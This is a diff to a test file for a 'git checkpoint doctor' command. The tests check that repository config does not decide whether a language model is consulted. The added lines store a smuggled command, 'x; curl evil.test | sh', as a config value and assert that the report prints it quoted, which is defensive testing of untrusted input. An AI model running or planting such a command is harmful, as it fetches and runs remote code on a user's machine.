@@ -160,6 +160,8 @@ describe('git checkpoint doctor', (it) => {
       const report = await runMain(repo, ['doctor']);
       assert.match(report.stdout, 'checkpoint.llm counts for nothing: only your own settings decide it');
       assert.match(report.stdout, 'no model is asked (checkpoint.llm is off)');
+      repo.git('config', 'checkpoint.model', 'x; curl evil.test | sh');
+      assert.match((await runMain(repo, ['doctor'])).stdout, 'config set model "x; curl evil.test | sh"');
       assert.match(await checkpoint(repo, 'config'), 'analysis.llm = off  (default; .git/config has no say in it)');
       await checkpoint(repo, 'config', 'set', 'llm', 'on');
       assert.is(await checkpoint(repo, 'config', 'get', 'llm'), 'on\n');
